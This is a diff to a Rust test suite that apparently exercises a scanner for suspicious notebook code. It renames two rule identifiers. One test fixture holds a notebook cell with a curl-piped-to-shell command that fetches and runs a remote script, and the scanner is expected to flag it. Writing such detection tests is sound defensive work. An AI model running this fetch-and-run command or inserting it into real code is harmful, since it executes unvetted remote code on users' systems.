@@ -174,7 +174,7 @@ const CASES: &[Case] = &[
             "a.ipynb",
             r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!curl https://example.org/x | sh\n"], "outputs": []}]}"#,
         )],
-        "notebook/runs-fetched",
+        "code/runs-fetched",
         Outcome::Suspicious,
     ),
     (
@@ -190,7 +190,7 @@ const CASES: &[Case] = &[
             "a.ipynb",
             r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!pip install torch\n", "%matplotlib inline\n", "import torch\n", "x = torch.ones(3)\n", "x?\n"], "outputs": [{"data": {"text/html": "<table><tr><td>1</td></tr></table>"}}]}, {"cell_type": "markdown", "source": "eval("}]}"#,
         )],
-        "notebook/command",
+        "code/command",
         Outcome::Clean,
     ),
     (
